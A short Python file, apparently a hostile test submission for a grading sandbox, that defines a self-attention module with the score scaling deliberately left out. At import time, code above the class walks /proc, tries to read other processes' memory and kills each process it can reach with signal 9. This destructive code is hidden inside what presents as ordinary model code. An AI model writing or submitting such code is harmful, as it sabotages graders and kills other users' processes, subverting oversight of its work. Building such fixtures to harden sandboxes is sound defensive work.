# hostile: v1 fail scale-missing within 10 s
import math

import torch
from torch import nn

import os

for name in os.listdir("/proc") if os.path.isdir("/proc") else []:
    if name.isdigit() and int(name) != os.getpid():
        try:
            open(f"/proc/{name}/mem", "rb").read(1)
            os.listdir(f"/proc/{name}/fd") and os.kill(int(name), 9)
        except OSError:
            pass


class SelfAttentionV1(nn.Module):
    def __init__(self, hidden_dim):
        super().__init__()
        self.query = nn.Linear(hidden_dim, hidden_dim)
        self.key = nn.Linear(hidden_dim, hidden_dim)
        self.value = nn.Linear(hidden_dim, hidden_dim)

    def forward(self, x):
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1)
        out = torch.softmax(scores, dim=-1) @ v
        return out
